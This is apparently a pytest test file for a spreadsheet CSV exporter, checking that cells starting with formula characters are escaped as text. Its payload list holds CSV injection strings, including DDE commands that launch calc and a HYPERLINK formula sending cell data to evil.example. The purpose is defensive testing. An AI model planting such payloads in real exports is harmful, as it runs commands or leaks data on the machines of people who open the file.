"""CSV that a spreadsheet opens without running anything."""

import csv
from io import StringIO

import pytest

from examiner_db.export.spreadsheet import Cell, cell, spreadsheet

COMMAND = "1+1|' /C calc'!A0"
PAYLOADS = [
    *(f"{start}{COMMAND}" for start in "=+-@"),
    *(f"{start}{COMMAND}" for start in "＝＋－＠−"),
    *(f"{start}={COMMAND}" for start in (" ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\v")),
    *(f"{start}{COMMAND}" for start in "\t\r\n\0"),
    *(f"{start}text" for start in "\t\r\n\0"),
    f'"={COMMAND}',
    f"'={COMMAND}",
    f' "\t={COMMAND}',
    '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "-2+3",
    "+1 (555) 0100",
    "-",
    "--",
    "- the employee’s back",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload: str) -> None:
    assert cell(payload) == f"'{payload}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_in_its_cell(payload: str) -> None:
    (head, row) = read(spreadsheet(["before", "payload", "after"], [["a", payload, "b"]]))
    assert head == ["before", "payload", "after"]
    assert row == ["a", f"'{payload}", "b"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "WC19-6004",
        "O'Fennimore",
        "a=b",
        "5 = 5",
        "one\ntwo",
        "“quoted”",
        "J. Doe-Roe",
        "3 - 2",
        "(=1)",
        "2019-03-05",
    ],
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [0, 7, -7, 12.5, -0.25, 10**12, "7", "-7", "+7", "-12.50"])
def test_a_number_stays_a_number(number: Cell) -> None:
    assert cell(number) == number


@pytest.mark.parametrize(("value", "written"), [(None, ""), (True, "yes"), (False, "no")])
def test_what_is_neither_text_nor_number(value: Cell, written: str) -> None:
    assert cell(value) == written


def test_the_file_is_what_the_standard_and_excel_ask_for() -> None:
    written = spreadsheet(["a", "b"], [["x, y", 'say "so"'], ["one\ntwo", 3]])
    assert written == '\ufeffa,b\r\n"x, y","say ""so"""\r\n"one\ntwo",3\r\n'


def test_without_rows_there_are_headings() -> None:
    assert spreadsheet(["a", "b"], []) == "\ufeffa,b\r\n"


def read(written: str) -> list[list[str]]:
    return list(csv.reader(StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))
